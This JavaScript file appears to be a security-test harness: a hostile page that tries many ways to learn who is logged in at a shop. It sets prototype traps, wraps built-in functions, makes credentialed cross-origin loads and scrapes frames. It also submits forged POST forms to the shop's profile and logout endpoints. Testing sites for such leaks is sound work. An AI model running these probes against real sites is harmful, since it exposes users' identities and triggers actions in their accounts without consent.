// What a page can try to learn who is logged in at SHOP. Each attempt ends with
// a word for what came of it; all that could be caught is in caught.
window.results = Object.create(null); // out of reach of the traps below
window.caught = [];
const SCRIPT = SHOP + '/webchat.js';
const grab = (...values) => caught.push(values.map((v) => {
  try { return typeof v === 'string' ? v : JSON.stringify(v) + String(v); } catch (e) { return 'unreadable'; }
}).join());

// The traps, set before anything of the shop's is included.
for (const name of ['contactId', 'webChatId', 'maiagentChatbotConfig', 'embed', 'again', 'reason', 'options']) {
  Object.defineProperty(Object.prototype, name, {
    configurable: true,
    get() { return undefined; },
    set(value) { grab('setter', name, value); },
  });
}
const own = {};
Object.defineProperty(window, 'maiagentChatbotConfig', {
  configurable: true,
  get: () => own.config,
  set(value) { own.config = value; grab('config', value); },
});
for (const [object, name] of [[Array.prototype, 'push'], [JSON, 'stringify'], [JSON, 'parse'], [Object, 'defineProperty'],
  [Symbol, 'for'], [document, 'createElement'], [String.prototype, 'replace'], [Function.prototype, 'call']]) {
  const real = object[name];
  let busy = false;
  object[name] = function (...values) {
    if (!busy && this !== caught) {
      busy = true;
      try { grab(name, ...values); } finally { busy = false; }
    }
    return Reflect.apply(real, this, values);
  };
}
window[Symbol.for('maicontact')] = (...values) => grab('loader', ...values);
window.addEventListener('error', (e) => grab('error', e.message, e.filename, e.error && e.error.stack));
window.addEventListener('unhandledrejection', (e) => grab('rejection', e.reason));
window.addEventListener('message', (e) => grab('message', e.data));
window.addEventListener('securitypolicyviolation', (e) => grab('policy', e.blockedURI, e.sample));

const pause = (ms) => new Promise((done) => setTimeout(done, ms));

// element inserts one and tells which of its events came first.
const element = (tag, fields, events = ['load', 'error'], place = document.body) => new Promise((done) => {
  const e = document.createElement(tag);
  for (const type of events) e.addEventListener(type, () => done(type));
  Object.assign(e, fields);
  place.append(e);
});

// frame loads something in a frame and looks into it.
const frame = async (tag, fields, address, start) => {
  const name = 'frame' + Math.random();
  const loaded = element(tag, { ...fields, name }, ['load', 'error']);
  if (start) start(name);
  const end = await Promise.race([loaded, pause(15000).then(() => 'silent')]);
  if (start) await pause(300); // past the frame's first empty document
  const e = document.getElementsByName(name)[0];
  try {
    const inner = e.contentWindow || (e.getSVGDocument && e.getSVGDocument());
    grab('frame', inner.location.href, inner.document.documentElement.outerHTML, inner.maiagentChatbotConfig);
  } catch (error) {
    grab('frame', error.message);
  }
  return end;
};

const form = (method, action, fields) => (name) => {
  const f = Object.assign(document.createElement('form'), { method, action, target: name });
  for (const [key, value] of Object.entries(fields)) f.append(Object.assign(document.createElement('input'), { name: key, value }));
  document.body.append(f);
  f.submit();
};

const ask = async (address, options) => {
  const reply = await fetch(address, options);
  const text = await reply.text();
  grab('fetch', text, [...reply.headers]);
  return `${reply.type} ${reply.status} ${text.length}`;
};

const request = (withCredentials) => new Promise((done) => {
  const r = new XMLHttpRequest();
  r.onload = () => { grab('xhr', r.responseText); done('load'); };
  r.onerror = () => done('error');
  r.open('GET', SCRIPT);
  r.withCredentials = withCredentials;
  r.send();
});

const worker = (make) => new Promise((done) => {
  const w = make();
  const from = w.port || w;
  from.onmessage = (e) => { grab('worker', e.data); done('message'); };
  w.onerror = (e) => { grab('worker', e.message); done('error'); };
});

const media = (tag) => element(tag, { src: SCRIPT }, ['error', 'canplay']);
const link = (fields) => element('link', { href: SCRIPT, ...fields }, ['load', 'error'], document.head);

const attempts = {
  'script': () => element('script', { src: SCRIPT }),
  'script, anonymous': () => element('script', { src: SCRIPT, crossOrigin: 'anonymous' }),
  'script, with credentials': () => element('script', { src: SCRIPT, crossOrigin: 'use-credentials' }),
  'script, no referrer': () => element('script', { src: SCRIPT, referrerPolicy: 'no-referrer' }),
  'script, module': () => element('script', { src: SCRIPT, type: 'module' }),
  'import()': () => import(SCRIPT),
  'XMLHttpRequest': () => request(false),
  'XMLHttpRequest, with credentials': () => request(true),
  'iframe': () => frame('iframe', { src: SCRIPT }),
  'iframe, sandboxed': () => frame('iframe', { src: SCRIPT, sandbox: 'allow-scripts' }),
  'iframe of the page': () => frame('iframe', { src: SHOP + '/' }),
  'object': () => frame('object', { data: SCRIPT }),
  'embed': () => frame('embed', { src: SCRIPT }),
  'img': () => element('img', { src: SCRIPT }),
  'audio': () => media('audio'),
  'video': () => media('video'),
  'style sheet': () => link({ rel: 'stylesheet' }),
  'style sheet that imports': () => element('link', { rel: 'stylesheet', href: '/style.css' }, ['load', 'error'], document.head),
  'prefetch': () => link({ rel: 'prefetch' }),
  'preload': () => link({ rel: 'preload', as: 'script' }),
  'modulepreload': () => link({ rel: 'modulepreload' }),
  'EventSource': () => new Promise((done) => {
    const source = new EventSource(SCRIPT, { withCredentials: true });
    source.onerror = () => { source.close(); done('error'); };
    source.onmessage = (e) => { grab(e.data); done('message'); };
  }),
  'WebSocket': () => new Promise((done) => {
    const socket = new WebSocket(SCRIPT.replace('https', 'wss'));
    socket.onerror = () => done('error');
    socket.onmessage = (e) => { grab(e.data); done('message'); };
  }),
  'worker': () => worker(() => new Worker(SCRIPT)),
  'worker that imports': () => worker(() => new Worker('/worker.js')),
  'shared worker that imports': () => worker(() => new SharedWorker('/worker.js')),
  'service worker that imports': () => navigator.serviceWorker.register('/service.js').then(() => 'registered'),
  'sendBeacon': () => 'sent ' + navigator.sendBeacon(SCRIPT, 'contactId=1'),
  'form to the script': () => frame('iframe', {}, SCRIPT, form('POST', SCRIPT, { contactId: '1' })),
  'form that gets the script': () => frame('iframe', {}, SCRIPT, form('GET', SCRIPT, { contactId: '1' })),
  'form to the profile': () => frame('iframe', {}, SHOP, form('POST', SHOP + '/profile', { name: 'Mallory' })),
  'form to logout': () => frame('iframe', {}, SHOP, form('POST', SHOP + '/logout', {})),
  'rules to fetch in advance': async () => {
    const rules = JSON.stringify({ prefetch: [{ urls: [SCRIPT, SHOP + '/'], eagerness: 'immediate' }] });
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }));
    await pause(300);
    return 'given';
  },
  'rules to render in advance': async () => {
    const rules = JSON.stringify({ prerender: [{ urls: [SCRIPT, SHOP + '/'], eagerness: 'immediate' }] });
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }));
    await pause(300);
    return 'given';
  },
};
for (const mode of ['cors', 'no-cors', 'same-origin']) {
  for (const credentials of ['omit', 'include']) {
    attempts[`fetch ${mode} ${credentials}`] = () => ask(SCRIPT, { mode, credentials });
    attempts[`fetch of a file ${mode} ${credentials}`] = () => ask(SHOP + '/assets/shop.css', { mode, credentials });
  }
}
attempts['fetch POST'] = () => ask(SHOP + '/profile', { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ name: 'Mallory' }) });
attempts['fetch from the cache'] = () => ask(SCRIPT, { mode: 'no-cors', cache: 'force-cache', credentials: 'include' });

// attack makes all attempts and returns what came of each.
window.attack = async () => {
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    const failed = (e) => { grab('thrown', e && e.message, e && e.stack); return 'throws ' + (e && e.name); };
    const tried = new Promise((done) => done(attempt())).then((v) => { grab(v); return typeof v === 'string' ? v : 'done'; }).catch(failed);
    results[name] = await Promise.race([tried, pause(25000).then(() => 'silent')]);
  }));
  await pause(200); // stragglers: beacons, postMessage
  return results;
};

// look opens the script in a window of its own; it needs a person's gesture.
window.look = async () => {
  const opened = window.open(SCRIPT);
  if (!opened) return 'no window';
  let end = 'silent';
  for (let i = 0; i < 800 && end === 'silent'; i++) {
    await pause(25);
    try {
      if (opened.location.href !== 'about:blank') end = 'read';
      grab('window', opened.maiagentChatbotConfig, opened.document.documentElement.outerHTML);
    } catch (e) {
      grab('window', e.message);
      end = 'throws ' + e.name;
    }
  }
  opened.close();
  return end;
};

// everything is all that the page holds: its text, its globals to a depth, its
// storage, its list of what was loaded, and what was caught.
window.everything = () => {
  const texts = [document.documentElement.outerHTML, ...caught];
  const met = new Set();
  const collect = (value, depth) => {
    if (typeof value === 'string') { texts.push(value); return; }
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || met.has(value) || depth > 3) return;
    met.add(value);
    if (typeof value === 'function') { try { texts.push(Function.prototype.toString.apply(value)); } catch (e) { /* not one of ours */ } }
    for (const key of Reflect.ownKeys(value)) {
      try { texts.push(String(key)); collect(value[key], depth + 1); } catch (e) { texts.push(e.message); }
    }
  };
  collect(window, 0);
  for (const entry of performance.getEntries()) texts.push(entry.name, `size ${entry.transferSize} ${entry.decodedBodySize}`);
  for (const element of document.querySelectorAll('*')) if (element.sheet) try { texts.push(element.sheet.cssRules[0]?.cssText || ''); } catch (e) { texts.push(e.message); }
  return texts.join('\n');
};

// sizes are the lengths of the shop's replies that the browser tells of.
window.sizes = () => [...new Set(performance.getEntriesByType('resource').filter((e) => e.name.startsWith(SCRIPT))
  .map((e) => `${e.transferSize} ${e.encodedBodySize} ${e.decodedBodySize}`))];
